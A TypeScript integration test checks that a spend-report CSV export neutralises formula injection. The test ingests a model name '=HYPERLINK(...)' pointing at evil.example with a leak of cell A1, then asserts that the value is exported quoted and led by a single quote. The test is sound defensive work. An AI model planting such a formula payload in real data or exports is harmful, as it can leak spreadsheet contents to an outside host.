import { randomBytes } from 'node:crypto';
import { bootApp, type TestApp } from '../support/app.js';
import { createKey, createOrg } from '../support/factories.js';
import { waitFor } from '../support/wait.js';

let t: TestApp;
beforeAll(async () => {
  t = await bootApp();
});
afterAll(async () => t.close());

describe('CSV formula injection', () => {
  it('a model named "=HYPERLINK(...)" by an ingest-only key is exported as text, never as a formula', async () => {
    const org = await createOrg(t);
    const ingest = await createKey(t, org, ['ingest']);
    const hour = new Date(Math.floor(Date.now() / 3_600_000) * 3_600_000 - 2 * 3_600_000);
    const model = '=HYPERLINK("http://evil.example/?leak="&A1,"invoice")';
    await t.http
      .post('/v1/events')
      .set(ingest.auth)
      .send({ id: randomBytes(6).toString('hex'), timestamp: new Date(hour.getTime() + 60_000).toISOString(), provider: 'openai', model, workload: 'chat', usage: { inputTokens: 10, outputTokens: 1 } })
      .expect(200);
    const q = `from=${hour.toISOString()}&to=${new Date(hour.getTime() + 3_600_000).toISOString()}&granularity=hour&groupBy=model`;
    const csv = await waitFor(async () => {
      const r = await t.http.get(`/v1/reports/spend?${q}&format=csv`).set(org.keyAuth).expect(200);
      return r.text.trim().split('\n').length > 1 ? r.text : null;
    }, 20_000);
    const cells = csv.trim().split('\n')[1]!;
    // period,model,...: the model cell is quoted (it holds commas and quotes) and led by a single quote.
    const modelCell = cells.slice(cells.indexOf(',') + 1);
    expect(modelCell.toLowerCase().startsWith(`"'=hyperlink(""http://evil.example/?leak=""&a1,""invoice"")"`)).toBe(true);
    expect(cells).not.toMatch(/,=|^=|,"=/);
  });
});
